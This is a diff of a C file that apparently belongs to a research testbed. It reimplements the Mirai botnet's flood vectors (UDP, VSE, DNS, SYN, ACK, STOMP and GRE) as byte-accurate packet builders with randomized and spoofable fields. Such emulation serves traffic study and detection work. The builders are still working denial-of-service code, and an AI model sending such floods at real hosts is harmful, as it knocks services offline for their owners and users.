@@ -1,42 +1,30 @@
 // SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
 /*
- * Mirai's raw vectors, packet by packet, as MIRAI-VECTORS.md describes
- * them (our own code; the Mirai source was only read for the spec). The
- * order of the random draws follows Mirai's send loops, so one seed gives
- * one packet sequence.
+ * Mirai's vectors (docs/mirai-vectors.md): the descriptors (vec_table, at
+ * the end) and the packet builders they name. Our own code; the Mirai
+ * source was only read for the spec. The order of the random draws
+ * follows Mirai's send loops, so one seed gives one packet sequence.
+ *
+ * Headers are written through the kernel's structs (struct iphdr, udphdr,
+ * tcphdr, ethhdr) and those of botgen.h (GRE, DNS). A random 16- or 32-bit
+ * field is the draw as the little-endian bot stores it (htole16/htole32); a
+ * fixed option value is in network order.
  */
 #include <arpa/inet.h>
+#include <endian.h>
 #include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
+#include <linux/if_ether.h>
+#include <linux/ip.h>
+#include <linux/tcp.h>
+#include <linux/udp.h>
 #include "vectors.h"
 #include "tunnel.h"
 #include "safety.h"
 
-static const char *const names[] = {
-	[VEC_UDP] = "udp", [VEC_VSE] = "vse", [VEC_DNS] = "dns", [VEC_SYN] = "syn",
-	[VEC_ACK] = "ack", [VEC_STOMP] = "stomp", [VEC_GREIP] = "greip",
-	[VEC_GREETH] = "greeth", [8] = NULL, [VEC_UDPPLAIN] = "udpplain", [VEC_HTTP] = "http",
-};
-
-const char *vec_name(int vec)
-{
-	if (vec < 0 || vec > VEC_HTTP || !names[vec])
-		return "?";
-	return names[vec];
-}
-
-int vec_parse(const char *name)
-{
-	for (int i = 0; i <= VEC_HTTP; i++)
-		if (names[i] && !strcmp(names[i], name))
-			return i;
-	return VEC_NONE;
-}
-
-int vec_is_raw(int vec)
-{
-	return vec != VEC_UDPPLAIN && vec != VEC_HTTP && vec != VEC_STOMP;
-}
+#define VEC_IP_DF 0x4000
 
 /* splitmix64: spreads (seed, stream) over the 128-bit state */
 static uint64_t splitmix(uint64_t *s)
@@ -82,91 +70,6 @@ void vec_rand_fill(struct vec_rand *r, uint8_t *p, size_t len)
 	}
 }
 
-void vec_defaults(struct vec_opts *o, int vec)
-{
-	memset(o, 0, sizeof(*o));
-	o->vec = vec;
-	o->ident = VEC_RANDOM16;
-	o->ttl = 64;
-	o->sport = VEC_RANDOM16;
-	o->dport = VEC_RANDOM16;
-	o->dhid = VEC_RANDOM16;
-	o->seqnum = VEC_RANDOM16;
-	o->acknum = 0;
-	o->rand = 1;
-	o->conns = 1;
-	strcpy(o->method, "GET");
-	strcpy(o->path, "/");
-	switch (vec) {
-	case VEC_UDP:
-		o->len = 512;
-		break;
-	case VEC_VSE:
-		o->dport = 27015;
-		break;
-	case VEC_DNS:
-		o->dport = 53;
-		o->len = 12;
-		break;
-	case VEC_SYN:
-		o->df = 1;
-		o->syn = 1;
-		break;
-	case VEC_ACK:
-		o->len = 512;
-		o->ack = 1;
-		o->acknum = VEC_RANDOM16;
-		break;
-	case VEC_STOMP:
-		o->len = 768;
-		o->df = 1;
-		o->ack = 1;
-		o->psh = 1;
-		break;
-	case VEC_GREIP:
-	case VEC_GREETH:
-		o->len = 512;
-		o->df = 1;
-		break;
-	case VEC_UDPPLAIN:
-		o->len = 512;
-		break;
-	case VEC_HTTP:
-		o->dport = 80;
-		break;
-	}
-}
-
-static const uint8_t vse_payload[25] = {
-	0xff, 0xff, 0xff, 0xff, 'T', 'S', 'o', 'u', 'r', 'c', 'e', ' ', 'E', 'n', 'g', 'i',
-	'n', 'e', ' ', 'Q', 'u', 'e', 'r', 'y', 0,
-};
-
-uint32_t vec_ip_len(const struct vec_opts *o)
-{
-	switch (o->vec) {
-	case VEC_UDP:
-		return 28 + o->len;
-	case VEC_VSE:
-		return 28 + sizeof(vse_payload);
-	case VEC_DNS:
-		return 20 + 8 + 12 + 1 + o->len + (uint32_t)strlen(o->domain) + 2 + 4;
-	case VEC_SYN:
-		return 60;
-	case VEC_ACK:
-		return 40 + o->len;
-	case VEC_STOMP:
-		return 40 + o->len;
-	case VEC_GREIP:
-		return 20 + 4 + 28 + o->len;
-	case VEC_GREETH:
-		return 20 + 4 + 14 + 28 + o->len;
-	case VEC_UDPPLAIN:
-		return 28 + o->len;
-	}
-	return 0;
-}
-
 uint32_t vec_target_host(struct vec_rand *r, const struct vec_target *t)
 {
 	if (t->netmask >= 32)
@@ -187,76 +90,53 @@ uint16_t vec_l4_csum(uint32_t saddr, uint32_t daddr, uint8_t proto, const void *
 	return xpro_csum(l4, len, sum);
 }
 
-static void put16(uint8_t *p, uint16_t v)
+
+/* ---- fields ------------------------------------------------------------- */
+
+/* A 16-bit option: a draw per packet (65535), stored as the little-endian
+ * bot stores it, or the value, in network order. */
+static __be16 opt16(uint32_t opt, struct vec_rand *r)
 {
-	p[0] = (uint8_t)(v >> 8);
-	p[1] = (uint8_t)v;
+	if (opt == VEC_RANDOM16)
+		return htole16((uint16_t)vec_rand_next(r));
+	return htons((uint16_t)opt);
 }
 
-/* IPv4 header without checksum; addresses in network order */
-static void ip_hdr(uint8_t *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d)
+/* Source and destination ports (--sport, --dport), in that order */
+static void ports(__be16 *source, __be16 *dest, uint32_t sport, const struct vec_opts *o, struct vec_rand *r)
 {
-	ip[0] = 0x45;
-	ip[1] = o->tos;
-	put16(ip + 2, tot);
-	/* id: set by the caller */
-	put16(ip + 6, o->df ? 0x4000 : 0);
-	ip[8] = o->ttl;
-	ip[9] = proto;
-	ip[10] = ip[11] = 0;
-	memcpy(ip + 12, &s, 4);
-	memcpy(ip + 16, &d, 4);
+	*source = opt16(sport, r);
+	*dest = opt16(o->dport, r);
 }
 
-static void ip_csum(uint8_t *ip)
+/* The IPv4 header; the ID from ip_id(), the checksum from ip_csum() */
+static void ip_hdr(struct iphdr *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d)
 {
-	uint16_t c;
-
-	ip[10] = ip[11] = 0;
-	c = xpro_csum(ip, 20, 0);
-	memcpy(ip + 10, &c, 2);
+	ip->version = 4;
+	ip->ihl = 5;
+	ip->tos = o->tos;
+	ip->tot_len = htons(tot);
+	ip->id = 0;
+	ip->frag_off = htons(o->df ? VEC_IP_DF : 0);
+	ip->ttl = o->ttl;
+	ip->protocol = proto;
+	ip->check = 0;
+	ip->saddr = s;
+	ip->daddr = d;
 }
 
-/* Mirai's per-packet ID: (uint16_t)rand_next() written natively (LE), or
- * htons(ident) when fixed. Returns the field as it is on the wire. */
-static void ip_id(uint8_t *ip, const struct vec_opts *o, struct vec_rand *r)
+static void ip_csum(struct iphdr *ip)
 {
-	if (o->ident == VEC_RANDOM16) {
-		uint32_t v = vec_rand_next(r);
-
-		ip[4] = (uint8_t)v; /* native little-endian store */
-		ip[5] = (uint8_t)(v >> 8);
-	} else {
-		put16(ip + 4, (uint16_t)o->ident);
-	}
+	ip->check = 0;
+	ip->check = xpro_csum(ip, sizeof(*ip), 0);
 }
 
-/* A port option: random per packet (65535) or fixed, in network order. */
-static void port(uint8_t *p, uint32_t opt, struct vec_rand *r)
-{
-	if (opt == VEC_RANDOM16) {
-		uint32_t v = vec_rand_next(r);
-
-		p[0] = (uint8_t)v;
-		p[1] = (uint8_t)(v >> 8);
-	} else {
-		put16(p, (uint16_t)opt);
-	}
-}
-
-/* Source and destination ports of an L4 header, in that order */
-static void ports(uint8_t *l4, const struct vec_opts *o, struct vec_rand *r)
-{
-	port(l4, o->sport, r);
-	port(l4 + 2, o->dport, r);
-}
-
-/* The IPv4 header and its ID (ip_hdr, then ip_id: the order Mirai draws in) */
-static void ip_start(uint8_t *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d,
+/* The IPv4 header and its ID (ip_hdr, then the ID's draw: Mirai's order) */
+static void ip_start(struct iphdr *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d,
 		     struct vec_rand *r)
 {
 	ip_hdr(ip, o, tot, proto, s, d);
-	ip_id(ip, o, r);
+	ip->id = opt16(o->ident, r);
 }
 
 static uint32_t source(const struct vec_opts *o, struct vec_flow *f)
@@ -270,63 +150,154 @@ static uint32_t source(const struct vec_opts *o, struct vec_flow *f)
 	return f->local;
 }
 
-void vec_flow_init(const struct vec_opts *o, struct vec_flow *f, uint32_t local,
-		   const struct vec_target *t, uint64_t seed, uint64_t stream)
+/* A flood's IPv4 header: a host of the target, then the source (--source
+ * if the vector takes it, else the bot's), then the ID */
+static void ip_flood(struct iphdr *ip, const struct vec_opts *o, struct vec_flow *f, uint16_t tot, uint8_t proto)
 {
-	memset(f, 0, sizeof(*f));
-	f->local = local;
-	f->tgt = *t;
-	vec_rand_seed(&f->rnd, seed, stream);
-	switch (o->vec) {
-	case VEC_SYN:
-		f->mss = (uint16_t)(1400 + (vec_rand_next(&f->rnd) & 0x0f));
-		f->tsval = vec_rand_next(&f->rnd);
-		break;
-	case VEC_ACK:
-		f->window = (uint16_t)vec_rand_next(&f->rnd);
-		vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
-		break;
-	case VEC_STOMP:
-		f->window = (uint16_t)vec_rand_next(&f->rnd);
-		vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
-		break;
-	case VEC_GREIP:
-	case VEC_GREETH:
-		/* Mirai: random, once per target; kept inside the testbed here */
-		f->inner_src = vec_testbed_random(&f->rnd);
-		break;
-	case VEC_UDPPLAIN:
-	case VEC_HTTP:
-		f->host = vec_target_host(&f->rnd, t);
-		break;
-	}
+	uint32_t dst = vec_target_host(&f->rnd, &f->tgt);
+	uint32_t src = vec_desc(o->vec)->wire.flags & BOTGEN_V_SOURCE ? source(o, f) : f->local;
+
+	ip_start(ip, o, tot, proto, src, dst, &f->rnd);
+}
+
+/* The checksum of the L4 header l4 that follows ip, over the rest of ip's packet */
+static __sum16 l4_check(const struct iphdr *ip, const void *l4)
+{
+	return vec_l4_csum(ip->saddr, ip->daddr, ip->protocol, l4, ntohs(ip->tot_len) - sizeof(*ip));
+}
+
+/* A UDP header before len - 8 bytes; the checksum from l4_check() */
+static void udp_hdr(struct udphdr *udp, uint32_t sport, const struct vec_opts *o, struct vec_rand *r, uint32_t len)
+{
+	ports(&udp->source, &udp->dest, sport, o, r);
+	udp->len = htons((uint16_t)len);
+	udp->check = 0;
+}
+
+/* Q3: htons(n) of a little-endian bot, stored into a 32-bit field */
+static __be32 seq16(uint32_t n)
+{
+	return htole32(__builtin_bswap16((uint16_t)n));
+}
+
+/* The TCP header after the ports and seq/ack: data offset (in words),
+ * the flags of the options, the window; checksum and urgent pointer 0 */
+static void tcp_rest(struct tcphdr *tcp, const struct vec_opts *o, unsigned doff, uint16_t window)
+{
+	tcp->res1 = 0;
+	tcp->doff = doff & 0xf;
+	tcp->fin = !!o->fin;
+	tcp->syn = !!o->syn;
+	tcp->rst = !!o->rst;
+	tcp->psh = !!o->psh;
+	tcp->ack = !!o->ack;
+	tcp->urg = !!o->urg;
+	tcp->ece = 0;
+	tcp->cwr = 0;
+	tcp->window = htons(window);
+	tcp->check = 0;
+	tcp->urg_ptr = 0;
+}
+
+/* A flood's TCP header: ports, then the sequence and acknowledgement
+ * numbers, random per packet or the option's value (Q3); the ack 0 when
+ * not random (Q4) */
+static void tcp_hdr(struct tcphdr *tcp, const struct vec_opts *o, struct vec_rand *r, unsigned doff, uint16_t window)
+{
+	ports(&tcp->source, &tcp->dest, o->sport, o, r);
+	tcp->seq = o->seqnum == VEC_RANDOM16 ? htole32(vec_rand_next(r)) : seq16(o->seqnum);
+	tcp->ack_seq = o->acknum == VEC_RANDOM16 ? htole32(vec_rand_next(r)) : 0;
+	tcp_rest(tcp, o, doff, window);
+}
+
+/* --len bytes of payload: new random bytes (--rand 1), else fixed (the
+ * setup's bytes, or zeros) */
+static void payload(void *pl, const struct vec_opts *o, struct vec_flow *f, const uint8_t *fixed)
+{
+	if (o->rand)
+		vec_rand_fill(&f->rnd, pl, o->len);
+	else if (fixed)
+		memcpy(pl, fixed, o->len);
+	else
+		memset(pl, 0, o->len);
+}
+
+/* ---- at setup, once per flow ------------------------------------------- */
+
+static void setup_syn(const struct vec_opts *o, struct vec_flow *f)
+{
+	(void)o;
+	f->mss = (uint16_t)(1400 + (vec_rand_next(&f->rnd) & 0x0f));
+	f->tsval = vec_rand_next(&f->rnd);
+}
+
+/* ack, stomp: the window, and the payload sent with --rand 0 */
+static void setup_window(const struct vec_opts *o, struct vec_flow *f)
+{
+	f->window = (uint16_t)vec_rand_next(&f->rnd);
+	vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
+}
+
+/* greip, greeth: Mirai's random inner source, once per target; kept
+ * inside the testbed here */
+static void setup_gre(const struct vec_opts *o, struct vec_flow *f)
+{
+	(void)o;
+	f->inner_src = vec_testbed_random(&f->rnd);
+}
+
+/* udpplain, http: the target's host, once */
+static void setup_host(const struct vec_opts *o, struct vec_flow *f)
+{
+	(void)o;
+	f->host = vec_target_host(&f->rnd, &f->tgt);
+}
+
+/* ---- one packet --------------------------------------------------------- */
+
+static void build_udp(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
+{
+	struct udphdr *udp = (struct udphdr *)(ip + 1);
+
+	ip_flood(ip, o, f, tot, IPPROTO_UDP);
+	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + o->len);
+	payload(udp + 1, o, f, NULL);
+	udp->check = l4_check(ip, udp);
+}
+
+static const uint8_t vse_payload[25] = {
+	0xff, 0xff, 0xff, 0xff, 'T', 'S', 'o', 'u', 'r', 'c', 'e', ' ', 'E', 'n', 'g', 'i',
+	'n', 'e', ' ', 'Q', 'u', 'e', 'r', 'y', 0,
+};
+
+static void build_vse(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
+{
+	struct udphdr *udp = (struct udphdr *)(ip + 1);
+
+	ip_flood(ip, o, f, tot, IPPROTO_UDP);
+	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + sizeof(vse_payload));
+	memcpy(udp + 1, vse_payload, sizeof(vse_payload));
+	udp->check = l4_check(ip, udp);
 }
 
 static const char dns_alpha[33] = "abcdefghijklmnopqrstuvw012345678";
 
-static int build_dns(const struct vec_opts *o, struct vec_flow *f, uint8_t *ip, uint16_t tot)
+/* To the resolver, from the bot: a random source port whatever --sport
+ * says, the query <len random chars>.<domain> A IN with RD set */
+static void build_dns(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
 {
-	uint8_t *udp = ip + 20, *dns = udp + 8, *q = dns + 12, *lbl;
+	struct udphdr *udp = (struct udphdr *)(ip + 1);
+	struct vec_dnsh *dns = (struct vec_dnsh *)(udp + 1);
+	uint8_t *q = (uint8_t *)(dns + 1), *lbl;
 	const char *d = o->domain;
-	uint16_t c;
 	uint32_t i;
 
-	ip_start(ip, o, tot, 17, f->local, f->tgt.addr, &f->rnd);
-	port(udp, VEC_RANDOM16, &f->rnd); /* sport: always random */
-	port(udp + 2, o->dport, &f->rnd);
-	put16(udp + 4, (uint16_t)(tot - 20));
-	udp[6] = udp[7] = 0;
-	if (o->dhid == VEC_RANDOM16) {
-		uint32_t v = vec_rand_next(&f->rnd);
-
-		dns[0] = (uint8_t)v;
-		dns[1] = (uint8_t)(v >> 8);
-	} else {
-		put16(dns, (uint16_t)o->dhid);
-	}
-	put16(dns + 2, 0x0100);
-	put16(dns + 4, 1);
-	memset(dns + 6, 0, 6);
+	ip_start(ip, o, tot, IPPROTO_UDP, f->local, f->tgt.addr, &f->rnd);
+	udp_hdr(udp, VEC_RANDOM16, o, &f->rnd, tot - sizeof(*ip));
+	dns->id = opt16(o->dhid, &f->rnd);
+	dns->flags = htons(0x0100); /* RD */
+	dns->qdcount = htons(1);
+	dns->ancount = dns->nscount = dns->arcount = 0;
 	/* <len random chars>: 4 per draw, each from the top 5 bits of a byte;
 	 * a tail of len % 4 gets raw 5-bit values (not reachable via the CNC) */
 	q[0] = (uint8_t)o->len;
@@ -363,199 +334,324 @@ static int build_dns(const struct vec_opts *o, struct vec_flow *f, uint8_t *ip, 
 		*lenp = n;
 		*q++ = 0;
 	}
-	put16(q, 1);
-	put16(q + 2, 1);
-	c = vec_l4_csum(f->local, f->tgt.addr, 17, udp, tot - 20);
-	memcpy(udp + 6, &c, 2);
-	ip_csum(ip);
-	return tot;
+	q[0] = 0; /* QTYPE A, QCLASS IN */
+	q[1] = 1;
+	q[2] = 0;
+	q[3] = 1;
+	udp->check = l4_check(ip, udp);
 }
 
-static void tcp_flags(uint8_t *tcp, const struct vec_opts *o)
+/* Mirai's SYN options: MSS, SACK permitted, timestamps, NOP, window scale 6 */
+struct syn_opts {
+	uint8_t mss_kind, mss_len;
+	__be16 mss;
+	uint8_t sack_kind, sack_len;
+	uint8_t ts_kind, ts_len;
+	__le32 tsval;
+	__be32 tsecr;
+	uint8_t nop;
+	uint8_t ws_kind, ws_len, ws_shift;
+} __attribute__((packed));
+_Static_assert(sizeof(struct syn_opts) == 20, "Mirai's SYN options are 20 bytes");
+
+static void build_syn(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
 {
-	tcp[13] = (uint8_t)((o->urg ? 0x20 : 0) | (o->ack ? 0x10 : 0) | (o->psh ? 0x08 : 0) |
-			    (o->rst ? 0x04 : 0) | (o->syn ? 0x02 : 0) | (o->fin ? 0x01 : 0));
+	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
+	struct syn_opts *opt = (struct syn_opts *)(tcp + 1);
+
+	ip_flood(ip, o, f, tot, IPPROTO_TCP);
+	tcp_hdr(tcp, o, &f->rnd, (sizeof(*tcp) + sizeof(*opt)) / 4, 0);
+	if (o->urg)
+		tcp->urg_ptr = htole16((uint16_t)vec_rand_next(&f->rnd));
+	opt->mss_kind = 2;
+	opt->mss_len = 4;
+	opt->mss = htons(f->mss);
+	opt->sack_kind = 4;
+	opt->sack_len = 2;
+	opt->ts_kind = 8;
+	opt->ts_len = 10;
+	opt->tsval = htole32(f->tsval);
+	opt->tsecr = 0;
+	opt->nop = 1;
+	opt->ws_kind = 3;
+	opt->ws_len = 3;
+	opt->ws_shift = 6;
+	tcp->check = l4_check(ip, tcp);
 }
 
-/* Q3: htons(N) stored into a 32-bit field on a little-endian bot */
-static void seq16(uint8_t *p, uint32_t n)
+static void build_ack(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
 {
-	p[0] = (uint8_t)(n >> 8);
-	p[1] = (uint8_t)n;
-	p[2] = p[3] = 0;
+	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
+
+	ip_flood(ip, o, f, tot, IPPROTO_TCP);
+	tcp_hdr(tcp, o, &f->rnd, sizeof(*tcp) / 4, f->window);
+	payload(tcp + 1, o, f, f->fixed_payload);
+	tcp->check = l4_check(ip, tcp);
 }
 
-static void rand32(uint8_t *p, struct vec_rand *r)
+/* Inside the connection (botconn.c): its addresses and ports; Mirai swaps
+ * seq/ack and keeps 16 bits of each (the upper half on a little-endian
+ * bot); data offset 8 with a 20-byte header (Q5) */
+static void build_stomp(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
 {
-	uint32_t v = vec_rand_next(r);
+	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
 
-	memcpy(p, &v, 4);
+	ip_start(ip, o, tot, IPPROTO_TCP, f->local, f->host, &f->rnd);
+	tcp->source = htons(f->lport);
+	tcp->dest = htons(f->rport);
+	tcp->seq = seq16(f->srv_seq & 0xffff);
+	f->srv_seq++;
+	tcp->ack_seq = seq16(f->my_ack & 0xffff);
+	tcp_rest(tcp, o, 8, f->window);
+	payload(tcp + 1, o, f, f->fixed_payload);
+	tcp->check = l4_check(ip, tcp);
 }
 
-/* TCP sequence and acknowledgement numbers: random per packet, or the
- * option's value (Q3); the ack 0 when not random (Q4) */
-static void tcp_seq_ack(uint8_t *l4, const struct vec_opts *o, struct vec_rand *r)
+/* greip: GRE, inner IPv4, UDP; greeth: GRE, Ethernet (random addresses),
+ * inner IPv4, UDP */
+static void build_gre(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
 {
-	if (o->seqnum == VEC_RANDOM16)
-		rand32(l4 + 4, r);
+	struct vec_greh *gre = (struct vec_greh *)(ip + 1);
+	struct iphdr *iip = (struct iphdr *)(gre + 1);
+	struct udphdr *udp;
+	uint16_t oid;
+
+	ip_flood(ip, o, f, tot, IPPROTO_GRE);
+	gre->flags = 0;
+	gre->proto = htons(o->vec == VEC_GREIP ? ETH_P_IP : ETH_P_TEB);
+	if (o->vec == VEC_GREETH) {
+		struct ethhdr *eth = (struct ethhdr *)(gre + 1);
+		uint32_t m[3];
+
+		for (int k = 0; k < 3; k++) /* destination and source: 3 draws */
+			m[k] = htole32(vec_rand_next(&f->rnd));
+		memcpy(eth->h_dest, m, 2 * ETH_ALEN);
+		eth->h_proto = htons(ETH_P_IP);
+		iip = (struct iphdr *)(eth + 1);
+	}
+	ip_hdr(iip, o, (uint16_t)(sizeof(*iip) + sizeof(*udp) + o->len), IPPROTO_UDP, f->inner_src,
+	       o->gcip ? ip->daddr : vec_testbed_random(&f->rnd));
+	/* ~(outer id - 1000) on the little-endian view of the field */
+	oid = le16toh(ip->id);
+	if (o->ident == VEC_RANDOM16)
+		oid = (uint16_t)~(uint16_t)(oid - 1000);
 	else
-		seq16(l4 + 4, o->seqnum);
-	if (o->acknum == VEC_RANDOM16)
-		rand32(l4 + 8, r);
-	else
-		memset(l4 + 8, 0, 4);
+		oid = (uint16_t)~oid;
+	iip->id = htole16(oid);
+	udp = (struct udphdr *)(iip + 1);
+	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + o->len);
+	payload(udp + 1, o, f, NULL);
+	udp->check = l4_check(iip, udp);
+	ip_csum(iip);
 }
 
-int vec_next(const struct vec_opts *o, struct vec_flow *f, uint8_t *ip, size_t cap)
+/* ---- the vectors -------------------------------------------------------- */
+
+#define O(x) VEC_OPT(VEC_O_##x)
+#define O_IP (O(TOS) | O(IDENT) | O(TTL) | O(DF))
+#define O_TCP (O(URG) | O(ACK) | O(PSH) | O(RST) | O(SYN) | O(FIN))
+#define R16 VEC_RANDOM16
+/* greip and greeth: the same but for greeth's inner Ethernet header */
+#define GRE(name_, id_, eth_) {								\
+	.name = name_, .id = id_, .proto = IPPROTO_GRE, .raw = 1,				\
+	.opts = O(LEN) | O(RAND) | O_IP | O(SPORT) | O(DPORT) | O(GCIP) | O(SOURCE),		\
+	.len_max = 65535, .len = 512, .dport = R16, .df = 1,					\
+	.l4_len = sizeof(struct udphdr),							\
+	.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_PAYLOAD | (eth_), IPPROTO_UDP,	\
+		  sizeof(struct vec_greh) + ((eth_) ? sizeof(struct ethhdr) : 0) },		\
+	.setup = setup_gre, .build = build_gre,							\
+}
+
+/* What Mirai's CNC (or, where docs/mirai-vectors.md says so, the bot)
+ * accepts per vector, its defaults, the packet's shape and what varies in
+ * it per packet; indexed by Mirai's ID. */
+static const struct vec_desc vec_table[VEC_MAX + 1] = {
+	[VEC_UDP] = {
+		.name = "udp", .id = VEC_UDP, .proto = IPPROTO_UDP, .raw = 1,
+		.opts = O_IP | O(LEN) | O(RAND) | O(SPORT) | O(DPORT) | O(SOURCE),
+		.len_max = 65535, .len_cap = 1460, .len = 512, .dport = R16,
+		.l4_len = sizeof(struct udphdr),
+		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_PAYLOAD, IPPROTO_UDP, 0 },
+		.build = build_udp,
+	},
+	[VEC_VSE] = {
+		.name = "vse", .id = VEC_VSE, .proto = IPPROTO_UDP, .raw = 1,
+		.opts = O_IP | O(SPORT) | O(DPORT),
+		.len_max = 65535, .dport = 27015,
+		.l4_len = sizeof(struct udphdr), .fixed = sizeof(vse_payload),
+		.wire = { BOTGEN_V_FAST, IPPROTO_UDP, 0 },
+		.build = build_vse,
+	},
+	[VEC_DNS] = {
+		.name = "dns", .id = VEC_DNS, .proto = IPPROTO_UDP, .raw = 1,
+		.opts = O_IP | O(SPORT) | O(DPORT) | O(DOMAIN) | O(DHID) | O(LEN), .needs = O(DOMAIN),
+		.len_max = 255, .len = 12, .dport = 53,
+		/* the DNS header, the label's length, QTYPE and QCLASS */
+		.l4_len = sizeof(struct udphdr), .fixed = sizeof(struct vec_dnsh) + 1 + 4,
+		.wire = { BOTGEN_V_FAST | BOTGEN_V_RESOLVER | BOTGEN_V_SPORT | BOTGEN_V_DNS, IPPROTO_UDP, 0 },
+		.build = build_dns,
+	},
+	[VEC_SYN] = {
+		.name = "syn", .id = VEC_SYN, .proto = IPPROTO_TCP, .raw = 1,
+		.opts = O_IP | O(SPORT) | O(DPORT) | O_TCP | O(SEQNUM) | O(ACKNUM) | O(SOURCE),
+		.len_max = 65535, .dport = R16, .df = 1, .tcp = VEC_TCP_SYN,
+		.l4_len = sizeof(struct tcphdr) + sizeof(struct syn_opts),
+		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_SEQACK | BOTGEN_V_URG, IPPROTO_TCP, 0 },
+		.setup = setup_syn, .build = build_syn,
+	},
+	[VEC_ACK] = {
+		.name = "ack", .id = VEC_ACK, .proto = IPPROTO_TCP, .raw = 1,
+		.opts = O(LEN) | O(RAND) | O_IP | O(SPORT) | O(DPORT) | O_TCP | O(SEQNUM) | O(ACKNUM) | O(SOURCE),
+		.len_max = 65535, .len = 512, .dport = R16, .acknum = R16, .tcp = VEC_TCP_ACK,
+		.l4_len = sizeof(struct tcphdr),
+		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_SEQACK | BOTGEN_V_PAYLOAD, IPPROTO_TCP, 0 },
+		.setup = setup_window, .build = build_ack,
+	},
+	[VEC_STOMP] = {
+		.name = "stomp", .id = VEC_STOMP, .proto = IPPROTO_TCP,
+		.opts = O(LEN) | O(RAND) | O_IP | O(DPORT) | O_TCP,
+		.len_max = 65535, .len = 768, .dport = R16, .df = 1, .tcp = VEC_TCP_ACK | VEC_TCP_PSH,
+		.l4_len = sizeof(struct tcphdr),
+		.wire = { 0, IPPROTO_TCP, 0 },
+		.setup = setup_window, .build = build_stomp,
+	},
+	[VEC_GREIP] = GRE("greip", VEC_GREIP, 0),
+	[VEC_GREETH] = GRE("greeth", VEC_GREETH, BOTGEN_V_ETH),
+	[VEC_UDPPLAIN] = { /* kernel sockets: traffic/bot/botconn.c */
+		.name = "udpplain", .id = VEC_UDPPLAIN, .proto = IPPROTO_UDP,
+		.opts = O(LEN) | O(RAND) | O(DPORT) | O(SPORT),
+		.len_max = 65535, .len = 512, .dport = R16,
+		.l4_len = sizeof(struct udphdr),
+		.wire = { 0, IPPROTO_UDP, 0 },
+		.setup = setup_host,
+	},
+	[VEC_HTTP] = { /* kernel sockets: traffic/bot/botconn.c */
+		.name = "http", .id = VEC_HTTP, .proto = IPPROTO_TCP,
+		.opts = O(DOMAIN) | O(DPORT) | O(METHOD) | O(POSTDATA) | O(PATH) | O(CONNS), .needs = O(DOMAIN),
+		.len_max = 65535, .dport = 80,
+		.wire = { 0, IPPROTO_TCP, 0 },
+		.setup = setup_host,
+	},
+};
+
+const struct vec_desc *vec_desc(int vec)
 {
-	uint32_t tot = vec_ip_len(o), dst, src;
-	uint8_t *l4 = ip + 20, *pl;
-	uint16_t c;
+	if (vec < 0 || vec > VEC_MAX || !vec_table[vec].name)
+		return NULL;
+	return &vec_table[vec];
+}
+
+const char *vec_name(int vec)
+{
+	const struct vec_desc *d = vec_desc(vec);
+
+	return d ? d->name : "?";
+}
+
+int vec_parse(const char *name)
+{
+	char *e;
+	long id;
+
+	for (int i = 0; i <= VEC_MAX; i++)
+		if (vec_table[i].name && !strcmp(vec_table[i].name, name))
+			return i;
+	id = strtol(name, &e, 10); /* Mirai's ID */
+	if (*e || !vec_desc((int)id) || id != (int)id)
+		return VEC_NONE;
+	return (int)id;
+}
+
+const char *vec_names(void)
+{
+	static char buf[128];
+
+	if (!buf[0])
+		for (int i = 0; i <= VEC_MAX; i++)
+			if (vec_table[i].name)
+				snprintf(buf + strlen(buf), sizeof(buf) - strlen(buf), "%s%s", buf[0] ? " " : "",
+					 vec_table[i].name);
+	return buf;
+}
+
+int vec_is_raw(int vec)
+{
+	const struct vec_desc *d = vec_desc(vec);
+
+	return d && d->raw;
+}
+
+void vec_defaults(struct vec_opts *o, int vec)
+{
+	const struct vec_desc *d = vec_desc(vec);
+
+	memset(o, 0, sizeof(*o));
+	o->vec = vec;
+	o->ident = VEC_RANDOM16;
+	o->ttl = 64;
+	o->sport = VEC_RANDOM16;
+	o->dport = VEC_RANDOM16;
+	o->dhid = VEC_RANDOM16;
+	o->seqnum = VEC_RANDOM16;
+	o->rand = 1;
+	o->conns = 1;
+	strcpy(o->method, "GET");
+	strcpy(o->path, "/");
+	if (!d)
+		return;
+	o->len = d->len;
+	o->dport = d->dport;
+	o->acknum = d->acknum;
+	o->df = d->df;
+	o->urg = !!(d->tcp & VEC_TCP_URG);
+	o->ack = !!(d->tcp & VEC_TCP_ACK);
+	o->psh = !!(d->tcp & VEC_TCP_PSH);
+	o->rst = !!(d->tcp & VEC_TCP_RST);
+	o->syn = !!(d->tcp & VEC_TCP_SYN);
+	o->fin = !!(d->tcp & VEC_TCP_FIN);
+}
+
